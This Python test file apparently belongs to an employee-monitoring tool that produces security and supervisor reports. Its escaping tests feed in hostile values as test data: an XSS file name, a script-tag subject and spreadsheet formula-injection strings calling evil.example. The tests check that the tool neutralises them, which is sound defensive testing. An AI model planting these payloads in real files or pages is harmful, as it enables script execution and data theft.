"""The daily reports: what the security team and each supervisor see, least disclosure,
escaping, pseudonyms, languages, the inbound digest and sending by SMTP."""

from __future__ import annotations

import csv
import json
import re
import shutil
import tomllib
from datetime import date, timedelta
from email import message_from_bytes, policy
from html import unescape
from pathlib import Path

import polars as pl
import pytest

from deploy.celery_local import free_port
from insiderwatch.alerts import list_alerts
from insiderwatch.config import config_for_logs, load_config
from insiderwatch.db import Database, default_url
from insiderwatch.delivery import DeliveryError, send_reports
from insiderwatch.digest import build_digest, parse_period, periods_ending, write_digest
from insiderwatch.privacy import PrivacyError, pseudonym, pseudonym_key
from insiderwatch.reasons import catalogue, translate
from insiderwatch.reports import TEMPLATES, labels, teams, write_daily_reports
from insiderwatch.store import EventStore
from tests.conftest import REPORT_END, REPORT_START, SAMPLE_LOGS

CONFIG = config_for_logs(SAMPLE_LOGS)
KEY = b"test-only-pseudonym-key-0123456789"


def alert_days(store: Path) -> list[date]:
    db = Database(default_url(store))
    days = sorted({d for (d,) in db.query("SELECT DISTINCT alert_date FROM alerts WHERE budgeted")})
    db.close()
    return days


def render(store: Path, day: date, config=CONFIG, **options):
    db = Database(default_url(store))
    try:
        return write_daily_reports(EventStore(store), db, day, config, **options)
    finally:
        db.close()


def text_of(path: Path) -> str:
    """The page as a reader sees it: tags dropped, entities decoded."""
    return unescape(re.sub(r"<[^>]+>", " ", path.read_text(encoding="utf-8")))


@pytest.fixture
def store_copy(reported_store: Path, tmp_path: Path) -> Path:
    target = tmp_path / "store"
    shutil.copytree(reported_store, target)
    return target


# --- the security report ----------------------------------------------------------------------


def test_security_report_ranks_the_alerts_with_reasons_runbook_evidence_and_sparkline(
    reported_store: Path, tmp_path: Path
) -> None:
    days = alert_days(reported_store)
    assert days, "the sample weeks must have alerts"
    day = days[-1]
    written = render(reported_store, day, out=tmp_path / "out")
    db = Database(default_url(reported_store))
    alerts = list_alerts(db, day, day).sort("rank")
    html = written.security.read_text(encoding="utf-8")
    shown = re.findall(r'<article class="card (\w+)" id="(IW-[^"]+)"', html)
    assert [a for _, a in shown] == alerts["alert_id"].to_list()
    assert [s for s, _ in shown] == alerts["severity"].to_list()
    page = text_of(written.security)
    from detectors.base import load_meta

    for alert in alerts.iter_rows(named=True):
        card = page[page.index(alert["alert_id"]) :]
        for reason in alert["reasons"]:
            assert reason in card
        rule = next(d for d in alert["detectors"] if d != "isolation_forest")
        assert load_meta(rule).runbook[0] in card
        # The evidence table shows the referenced event lines themselves.
        assert alert["evidence"][0] in card
    assert html.count('class="spark"') == alerts.height
    assert 'id="severity-chart"><svg' in html
    # The summary's leavers list is the store's leavers table.
    leavers = db.query("SELECT user_id FROM leavers")
    assert leavers and all(f"<td>{u}</td>" in html for (u,) in leavers)
    # Data quality: the stored counts of the day's latest ingest, per source.
    counts = db.query(
        "SELECT source, stored FROM ingest_counts WHERE day = ? ORDER BY source", (day,)
    )
    db.close()
    for source, stored in counts:
        assert re.search(rf"<td>{source}</td><td class=\"num\">\d+</td><td class=\"num\">\d+"
                         rf"</td><td class=\"num\">{stored}</td>", html)  # fmt: skip


def test_a_quiet_day_says_so_and_a_rerun_writes_the_same_bytes(
    reported_store: Path, tmp_path: Path
) -> None:
    quiet = next(
        REPORT_START + timedelta(days=i)
        for i in range((REPORT_END - REPORT_START).days + 1)
        if REPORT_START + timedelta(days=i) not in alert_days(reported_store)
    )
    first = render(reported_store, quiet, out=tmp_path / "a")
    again = render(reported_store, quiet, out=tmp_path / "b")
    assert 'id="no-alerts"' in first.security.read_text(encoding="utf-8")
    files = sorted(p.relative_to(first.folder) for p in first.folder.rglob("*") if p.is_file())
    assert files == sorted(
        p.relative_to(again.folder) for p in again.folder.rglob("*") if p.is_file()
    )
    for name in files:
        assert (first.folder / name).read_bytes() == (again.folder / name).read_bytes(), name


# --- supervisors ------------------------------------------------------------------------------


def outsiders_found(page: str, roster: pl.DataFrame, allowed: set[str]) -> list[str]:
    """Ids, names and addresses of people outside ``allowed`` that appear in ``page``. A name
    shared with (or contained in) an allowed person's name cannot be told apart and is
    skipped."""
    allowed_names = roster.filter(pl.col("user").is_in(allowed))["name"].to_list()
    found = []
    for person in roster.filter(~pl.col("user").is_in(allowed)).iter_rows(named=True):
        marks = [person["user"], person["email"], *(person["personal_emails"] or [])]
        if not any(person["name"] in name for name in allowed_names):
            marks.append(person["name"])
        found += [f"{person['user']}: {m}" for m in marks if m and m in page]
    return found


@pytest.mark.parametrize("scope", ["direct", "chain"])
def test_every_supervisor_report_holds_only_that_supervisors_people(
    reported_store: Path, tmp_path: Path, scope: str
) -> None:
    config = CONFIG.model_copy(
        update={"report": CONFIG.report.model_copy(update={"supervisor_scope": scope})}
    )
    roster = pl.read_parquet(EventStore(reported_store).roster_path())
    team_of = {day: teams(roster, scope, day) for day in alert_days(reported_store)}
    assert all(len(day_teams) >= 20 for day_teams in team_of.values())
    checked = flagged = 0
    for day in alert_days(reported_store):
        written = render(reported_store, day, config, out=tmp_path / day.isoformat())
        alerts = list_alerts(Database(default_url(reported_store)), day, day)
        assert {r.supervisor for r in written.supervisors} == set(team_of[day])
        for report in written.supervisors:
            people = set(team_of[day][report.supervisor])
            for path in (report.html, report.text):
                page = unescape(path.read_text(encoding="utf-8"))
                leaks = outsiders_found(page, roster, people)
                assert not leaks, f"{day} {path.name}: {leaks[:5]}"
                checked += 1
            mine = alerts.filter(pl.col("user_id").is_in(people))
            assert report.flagged == mine.height
            html = report.html.read_text(encoding="utf-8")
            assert all(a in html for a in mine["alert_id"])
            flagged += mine.height
    assert checked >= 2 * 12 and flagged > 0


def test_supervisor_report_asks_what_to_confirm_and_hides_the_runbook(
    reported_store: Path, tmp_path: Path
) -> None:
    from detectors.base import load_meta

    day = alert_days(reported_store)[0]
    written = render(reported_store, day, out=tmp_path / "out")
    alert = list_alerts(Database(default_url(reported_store)), day, day).row(0, named=True)
    report = next(r for r in written.supervisors if r.supervisor == alert["supervisor"])
    page = text_of(report.html)
    rule = next(d for d in alert["detectors"] if d != "isolation_forest")
    assert load_meta(rule).confirm[0] in page
    assert load_meta(rule).runbook[0] not in page
    quiet = next(r for r in written.supervisors if r.flagged == 0)
    assert labels("en")["nothing_today"].format(day=day) in text_of(quiet.html)


def test_a_mention_of_someone_outside_the_team_is_replaced_in_the_supervisors_report(
    store_copy: Path,
) -> None:
    day = alert_days(store_copy)[0]
    roster = pl.read_parquet(EventStore(store_copy).roster_path())
    db = Database(default_url(store_copy))
    alert = list_alerts(db, day, day).row(0, named=True)
    team = set(teams(roster, "direct", day)[alert["supervisor"]])
    outsider = roster.filter(
        ~pl.col("user").is_in([*team, alert["supervisor"]])
        & pl.col("personal_emails").list.len().gt(0)
    ).row(0, named=True)
    mention = (
        f"forwarded to {outsider['email']} and {outsider['personal_emails'][0]} "
        f"({outsider['name']}, {outsider['user']})"
    )
    db.execute(
        "UPDATE alerts SET reasons = ? WHERE alert_id = ?",
        (json.dumps([*alert["reasons"], mention], ensure_ascii=False), alert["alert_id"]),
    )
    db.close()
    written = render(store_copy, day)
    report = next(r for r in written.supervisors if r.supervisor == alert["supervisor"])
    page = text_of(report.html)
    assert "forwarded to [another employee] and [another employee] ([another employee]" in page
    assert not outsiders_found(page, roster, team)
    assert mention in text_of(written.security)  # the security team sees it as it is


# --- escaping ---------------------------------------------------------------------------------

HOSTILE_PATH = '\\\\fs01\\rnd\\<img src=x onerror="alert(1)">.pdf'
HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"invoice") <script>alert(2)</script>'


def make_hostile(store: Path) -> tuple[date, str]:
    """Rewrite an alert's file evidence lines with a hostile file name and its reasons with a
    hostile subject, as a crafted log line would carry them."""
    db = Database(default_url(store))
    alert = (
        list_alerts(db)
        .filter(pl.col("evidence").list.first().str.starts_with("file_access/"))
        .row(0, named=True)
    )
    day = alert["alert_date"]
    db.execute(
        "UPDATE alerts SET reasons = ? WHERE alert_id = ?",
        (json.dumps([*alert["reasons"], HOSTILE_SUBJECT]), alert["alert_id"]),
    )
    db.close()
    part = EventStore(store).partition("events", "file_access", day)
    hit = pl.format("{}:{}", pl.col("source_file"), pl.col("source_line")).is_in(alert["evidence"])
    hostile = pl.when(hit).then(pl.lit(HOSTILE_PATH)).otherwise(pl.col("path")).alias("path")
    pl.read_parquet(part).with_columns(hostile).write_parquet(part)
    return day, alert["alert_id"]


def test_hostile_file_names_and_subjects_render_as_text(store_copy: Path) -> None:
    day, alert_id = make_hostile(store_copy)
    written = render(store_copy, day)
    pages = [written.security, *(r.html for r in written.supervisors if r.flagged)]
    assert len(pages) >= 2
    for page in pages:
        html = page.read_text(encoding="utf-8")
        if alert_id not in html:
            continue
        assert "<script>alert" not in html and "<img src=x" not in html
        assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html
        assert "default-src 'none'" in html and "script-src" not in html
        shown = text_of(page)
        assert HOSTILE_SUBJECT in shown and HOSTILE_PATH in shown


def test_hostile_text_in_exports_is_neutralised(store_copy: Path, tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from insiderwatch.cli import app

    make_hostile(store_copy)
    out = tmp_path / "alerts.csv"
    done = CliRunner().invoke(
        app, ["alerts", "export", "--store", str(store_copy), "--out", str(out)]
    )
    assert done.exit_code == 0, done.output
    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
    hostile = [c for c in cells if "HYPERLINK" in c]
    assert hostile and all(c.startswith("'=") or not c.startswith("=") for c in hostile)


# --- pseudonyms -------------------------------------------------------------------------------


def test_pseudonymised_overview_and_export_name_nobody(
    reported_store: Path, tmp_path: Path, monkeypatch
) -> None:
    from typer.testing import CliRunner

    from insiderwatch.cli import app

    day = alert_days(reported_store)[-1]
    roster = pl.read_parquet(EventStore(reported_store).roster_path())
    written = render(reported_store, day, out=tmp_path / "p", pseudonymise_key=KEY)
    assert written.security.name == "security-pseudonymised.html"
    assert written.supervisors == [] and not (tmp_path / "p" / "supervisors").exists()
    page = unescape(written.security.read_text(encoding="utf-8"))
    assert not outsiders_found(page, roster, set())
    alerts = list_alerts(Database(default_url(reported_store)), day, day)
    assert all(pseudonym(u, KEY) in page for u in alerts["user_id"])
    again = render(reported_store, day, out=tmp_path / "q", pseudonymise_key=KEY)
    assert again.security.read_bytes() == written.security.read_bytes()
    other = render(
        reported_store, day, out=tmp_path / "r", pseudonymise_key=b"another-key-0123456789"
    )
    assert pseudonym(alerts["user_id"][0], KEY) not in other.security.read_text(encoding="utf-8")

    monkeypatch.setenv("INSIDERWATCH_PSEUDONYM_KEY", KEY.decode())
    out = tmp_path / "alerts.csv"
    args = ["alerts", "export", "--store", str(reported_store), "--out", str(out), "--pseudonymise"]
    done = CliRunner().invoke(app, args)
    assert done.exit_code == 0, done.output
    exported = out.read_text(encoding="utf-8")
    assert not outsiders_found(exported, roster, set())
    assert pseudonym(alerts["user_id"][0], KEY) in exported


def test_pseudonymising_without_a_key_fails_naming_the_variable(monkeypatch) -> None:
    monkeypatch.delenv("INSIDERWATCH_PSEUDONYM_KEY", raising=False)
    with pytest.raises(PrivacyError, match="INSIDERWATCH_PSEUDONYM_KEY"):
        pseudonym_key()
    with pytest.raises(PrivacyError, match="at least 16"):
        pseudonym_key({"INSIDERWATCH_PSEUDONYM_KEY": "short"})


# --- language ---------------------------------------------------------------------------------


def test_japanese_reports_use_japanese_texts(reported_store: Path, tmp_path: Path) -> None:
    from detectors.base import load_meta

    day = alert_days(reported_store)[0]
    written = render(reported_store, day, out=tmp_path / "ja", language="ja")
    html = written.security.read_text(encoding="utf-8")
    assert '<html lang="ja">' in html and "日次セキュリティレポート" in html
    alert = list_alerts(Database(default_url(reported_store)), day, day).row(0, named=True)
    rule = next(d for d in alert["detectors"] if d != "isolation_forest")
    assert load_meta(rule).ja.title in html and load_meta(rule).ja.runbook[0] in html
    report = next(r for r in written.supervisors if r.supervisor == alert["supervisor"])
    assert load_meta(rule).ja.confirm[0] in report.html.read_text(encoding="utf-8")
    # The reasons are shown in Japanese, with their numbers.
    page = text_of(written.security)
    for reason in alert["reasons"]:
        assert translate(reason, "ja") != reason and translate(reason, "ja") in page
    assert "通常" in page and "同僚" in page
    # So are the lookback verdicts of the leavers list.
    db = Database(default_url(reported_store))
    verdicts = [v for (v,) in db.query("SELECT lookback_verdict FROM leavers")]
    db.close()
    assert verdicts and any(v.startswith("Stands out") for v in verdicts)
    for verdict in verdicts:
        assert translate(verdict, "ja") != verdict and translate(verdict, "ja") in page
    assert "Stands out" not in page and "Nothing stands out" not in page


def test_every_reason_in_the_store_has_a_japanese_wording(reported_store: Path) -> None:
    db = Database(default_url(reported_store))
    reasons = {r for (r,) in db.query("SELECT reason FROM findings")}
    for (listed,) in db.query("SELECT reasons FROM alerts"):
        reasons |= set(json.loads(listed))
    db.close()
    assert len(reasons) > 20
    assert [r for r in reasons if catalogue("ja").reason(r) is None] == []
    # Nested phrases are translated too (the model's drivers, usual and peer values).
    english = re.compile(r"\b(usual|peers|files|events|connects|unusual)\b")
    assert [r for r in reasons if english.search(translate(r, "ja"))] == []
    assert translate("priority person: knows a whole protected process", "en").startswith("prio")
    drivers = (
        "unusual day for this person (model): removable bytes 1.2 GB (usual 0 B; peers 3 MB); "
        "usb connects 1 (usual 0; peers 0)"
    )
    assert translate(drivers, "ja") == (
        "本人として普段と異なる一日（モデル）：リムーバブルメディアへのバイト数 1.2 GB"
        "（通常 0 B、同僚 3 MB）；USB接続数 1（通常 0、同僚 0）"
    )


def test_both_languages_have_every_label() -> None:
    with (TEMPLATES / "labels.toml").open("rb") as fh:
        tables = tomllib.load(fh)
    assert set(tables["en"]) == set(tables["ja"])
    fields = re.compile(r"\{(\w+)\}")
    for key, text in tables["en"].items():
        assert set(fields.findall(text)) == set(fields.findall(tables["ja"][key])), key


# --- inbound digest ---------------------------------------------------------------------------

MAIL_COLUMNS = {
    "timestamp": pl.Datetime("us", "UTC"),
    "direction": pl.String,
    "sender": pl.String,
    "recipients": pl.List(pl.String),
    "cc": pl.List(pl.String),
    "bcc": pl.List(pl.String),
    "subject": pl.String,
    "attachments": pl.Int64,
    "attachment_names": pl.List(pl.String),
    "attachment_bytes": pl.Int64,
    "size_bytes": pl.Int64,
    "body": pl.String,
    "user": pl.String,
    "recipient_users": pl.List(pl.String),
    "local_date": pl.Date,
    "source_file": pl.String,
    "source_line": pl.Int64,
}


def mail_store(
    root: Path, mails: list[tuple], departments: tuple[str, str] = ("研究開発部", "営業部")
) -> EventStore:
    """A store with a three-person roster and the given mails: (day, direction, sender,
    recipient, subject, body, user)."""
    from datetime import datetime, time

    store = EventStore(root)
    store.write_roster(
        pl.DataFrame(
            {
                "user": ["a1", "b1", "b2"],
                "name": ["青木 一郎", "馬場 二郎", "Beth Brown"],
                "email": ["a1@corp.example", "b1@corp.example", "b2@corp.example"],
                "department": [departments[0], departments[1], departments[1]],
                "personal_emails": [[], [], []],
            }
        )
    )
    rows: dict[date, list[dict]] = {}
    for i, (day, direction, sender, to, subject, body, user) in enumerate(mails):
        rows.setdefault(day, []).append(
            {
                "timestamp": datetime.combine(day, time(2)),
                "direction": direction,
                "sender": sender,
                "recipients": [to],
                "cc": [],
                "bcc": [],
                "subject": subject,
                "attachments": 0,
                "attachment_names": [],
                "attachment_bytes": 0,
                "size_bytes": 100,
                "body": body,
                "user": user,
                "recipient_users": [],
                "local_date": day,
                "source_file": "mail/x.csv",
                "source_line": i + 2,
            }
        )
    for day, items in rows.items():
        frame = pl.DataFrame(items, schema={k: v for k, v in MAIL_COLUMNS.items()})
        store.write_partition("events", "mail", day, frame)
    return store


def test_digest_counts_approaches_per_department_with_trend_and_examples(tmp_path: Path) -> None:
    may, june = date(2024, 5, 14), date(2024, 6, 11)
    secret = "PROJECT-KIRIN wafer yield 93.4%"
    store = mail_store(
        tmp_path / "store",
        [
            # Known partner: b1 mailed them in May, so their June question is not counted.
            (may, "outbound", "b1@corp.example", "sales@partner.example", "Quote", "", "b1"),
            (
                june,
                "inbound",
                "sales@partner.example",
                "b1@corp.example",
                "Industry trends survey",
                "",
                "b1",
            ),
            # Unknown sender asking about the process: counted; the body stays out.
            (
                june,
                "inbound",
                "analyst@unknown-research.example",
                "a1@corp.example",
                "<b>Questionnaire</b> about your line",
                f"Please share {secret}",
                "a1",
            ),
            (june, "inbound", "scout@bizreach.jp", "b2@corp.example", "ご経験を活かせる", "", "b2"),
            (june, "inbound", "x@mail.example", "b2@corp.example", "【スカウト】部長職", "", "b2"),
            (june, "inbound", "y@visasq.co.jp", "a1@corp.example", "ご相談", "", "a1"),
            (may, "inbound", "z@visasq.co.jp", "a1@corp.example", "ご相談", "", "a1"),
            # Internal mail with the same words is not an approach.
            (june, "inbound", "b1@corp.example", "a1@corp.example", "求人 survey", "", "a1"),
        ],
    )
    config = load_config()
    digest = build_digest(store, parse_period("2024-06"), config)
    counts = {
        (r["department"], r["category"]): (r["this"], r["previous"])
        for r in digest.counts.iter_rows(named=True)
    }
    assert counts == {
        ("研究開発部", "information_seeking"): (1, 0),
        ("研究開発部", "expert_network"): (1, 1),
        ("営業部", "headhunting"): (2, 0),
    }
    assert (digest.total, digest.previous_total) == (4, 1)
    trend = digest.trend.filter(pl.col("period") == "2024-05")
    assert trend.filter(pl.col("category") == "expert_network")["n"].item() == 1

    page = write_digest(store, parse_period("2024-06"), config)
    html = page.read_text(encoding="utf-8")
    assert "unknown-research.example" in html and "questionnaire" in html.lower()
    assert secret not in html and "<b>Questionnaire" not in html
    assert "&lt;b&gt;Questionnaire&lt;/b&gt;" in html
    assert "a1@corp.example" not in html and "青木 一郎" not in html
    quarter = build_digest(store, parse_period("2024-Q2"), config)
    assert quarter.total == 5 and quarter.period.label == "2024-Q2"
    assert [p.label for p in periods_ending(date(2024, 6, 30))] == ["2024-06", "2024-Q2"]
    assert periods_ending(date(2024, 6, 29)) == []


# --- sending ----------------------------------------------------------------------------------


@pytest.fixture
def smtp_sink():
    """A real SMTP server on a free local port that keeps every message it receives."""
    from aiosmtpd.controller import Controller

    class Sink:
        def __init__(self) -> None:
            self.messages: list[tuple[str, list[str], bytes]] = []

        async def handle_DATA(self, server, session, envelope):
            self.messages.append((envelope.mail_from, list(envelope.rcpt_tos), envelope.content))
            return "250 OK"

    sink = Sink()
    controller = Controller(sink, hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        yield sink, controller.port
    finally:
        controller.stop()


def test_reports_are_mailed_to_each_supervisor_and_the_security_team_once(
    store_copy: Path, smtp_sink
) -> None:
    sink, port = smtp_sink
    config = CONFIG.model_copy(
        update={
            "smtp": CONFIG.smtp.model_copy(
                update={
                    "enabled": True,
                    "host": "127.0.0.1",
                    "port": port,
                    "sender": "iw@corp.example",
                }
            ),
            "report": CONFIG.report.model_copy(update={"security_team": ("soc@corp.example",)}),
        }
    )
    day = alert_days(store_copy)[0]
    written = render(store_copy, day, config)
    db = Database(default_url(store_copy))
    roster = pl.read_parquet(EventStore(store_copy).roster_path())
    email_of = dict(zip(roster["user"], roster["email"], strict=True))
    deliveries = send_reports(written, config, db, environ={})
    assert {d.status for d in deliveries} == {"sent"}
    assert len(sink.messages) == len(written.supervisors) + 1
    by_recipient = {
        tuple(to): message_from_bytes(raw, policy=policy.default) for _, to, raw in sink.messages
    }
    alerts = list_alerts(db, day, day)
    team_of = teams(roster, "direct", day)
    for report in written.supervisors:
        message = by_recipient[(email_of[report.supervisor],)]
        assert message["From"] == "iw@corp.example"
        html = message.get_body(("html",)).get_content()
        plain = message.get_body(("plain",)).get_content()
        mine = alerts.filter(pl.col("user_id").is_in(team_of[report.supervisor]))
        assert ("nothing today" in message["Subject"]) == (mine.height == 0)
        for alert in mine.iter_rows(named=True):
            assert alert["alert_id"] in html and alert["name"] in plain
        assert not outsiders_found(unescape(html), roster, set(team_of[report.supervisor]))
    security = by_recipient[("soc@corp.example",)]
    assert all(a in security.get_body(("html",)).get_content() for a in alerts["alert_id"])

    # A rerun sends nothing; a changed report goes out again, marked as an update.
    again = send_reports(written, config, db, environ={})
    assert {d.status for d in again} == {"unchanged"} and len(sink.messages) == len(
        written.supervisors
    ) + 1
    alert = alerts.row(0, named=True)
    db.execute("UPDATE alerts SET status = 'reviewing' WHERE alert_id = ?", (alert["alert_id"],))
    written = render(store_copy, day, config)
    changed = send_reports(written, config, db, environ={})
    db.close()
    assert [d.report for d in changed if d.status == "updated"] == [written.security.name]
    assert sink.messages[-1][1] == ["soc@corp.example"]
    assert "(updated)" in message_from_bytes(sink.messages[-1][2], policy=policy.default)["Subject"]


def test_sending_refuses_when_off_or_without_the_password(store_copy: Path, smtp_sink) -> None:
    _, port = smtp_sink
    day = alert_days(store_copy)[0]
    written = render(store_copy, day)
    db = Database(default_url(store_copy))
    with pytest.raises(DeliveryError, match=r"smtp\.enabled"):
        send_reports(written, CONFIG, db)
    smtp = CONFIG.smtp.model_copy(
        update={"enabled": True, "host": "127.0.0.1", "port": port, "username": "iw"}
    )
    with pytest.raises(DeliveryError, match="INSIDERWATCH_SMTP_PASSWORD"):
        send_reports(written, CONFIG.model_copy(update={"smtp": smtp}), db, environ={})
    db.close()


def test_reports_read_the_same_from_postgresql(
    reported_store: Path, postgres_url: str, tmp_path: Path
) -> None:
    """The shared-use database gives the same pages as the embedded one."""
    source = Database(default_url(reported_store))
    target = Database(postgres_url)
    for table in ("runs", "ingest_counts", "alerts", "findings", "leavers"):
        rows = source.query(f"SELECT * FROM {table}")
        marks = ", ".join("?" for _ in rows[0])
        target.executemany(f"INSERT INTO {table} VALUES ({marks})", rows)
    source.close()
    day = alert_days(reported_store)[-1]
    embedded = render(reported_store, day, out=tmp_path / "duckdb")
    shared = write_daily_reports(
        EventStore(reported_store), target, day, CONFIG, out=tmp_path / "postgresql"
    )
    target.close()
    assert shared.alerts == embedded.alerts > 0
    for path in [embedded.security, *(r.html for r in embedded.supervisors)]:
        twin = tmp_path / "postgresql" / path.relative_to(embedded.folder)
        assert twin.read_bytes() == path.read_bytes(), path.name


def test_digest_csv_keeps_a_formula_department_as_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example","dept")'
    day = date(2024, 6, 3)
    store = mail_store(
        tmp_path / "store",
        [(day, "inbound", "scout@bizreach.jp", "a1@corp.example", "<i>求人</i>", "", "a1")],
        departments=(hostile, "営業部"),
    )
    page = write_digest(store, parse_period("2024-06"), load_config())
    rows = list(csv.DictReader(page.with_suffix(".csv").open(encoding="utf-8")))
    assert [r["department"] for r in rows] == ["'" + hostile]
    html = page.read_text(encoding="utf-8")
    assert "&lt;i&gt;求人&lt;/i&gt;" in html and "<i>" not in html


def test_people_of_a_departed_supervisor_go_to_the_next_one_up(store_copy: Path) -> None:
    day = alert_days(store_copy)[0]
    store = EventStore(store_copy)
    roster = pl.read_parquet(store.roster_path())
    alert = list_alerts(Database(default_url(store_copy)), day, day).row(0, named=True)
    left, above = (
        alert["supervisor"],
        roster.filter(pl.col("user") == alert["supervisor"])["supervisor"].item(),
    )
    assert above, "the sample's flagged person has a second-line supervisor"
    gone = roster.with_columns(
        last_day=pl.when(pl.col("user") == left)
        .then(pl.lit(day - timedelta(days=3)))
        .otherwise(pl.col("last_day"))
    )
    store.write_roster(gone)
    written = render(store_copy, day)
    assert left not in {r.supervisor for r in written.supervisors}
    report = next(r for r in written.supervisors if r.supervisor == above)
    assert alert["alert_id"] in report.html.read_text(encoding="utf-8")
    team = set(teams(gone, "direct", day)[above])
    assert alert["user_id"] in team and left in team
    assert not outsiders_found(unescape(report.html.read_text(encoding="utf-8")), gone, team)
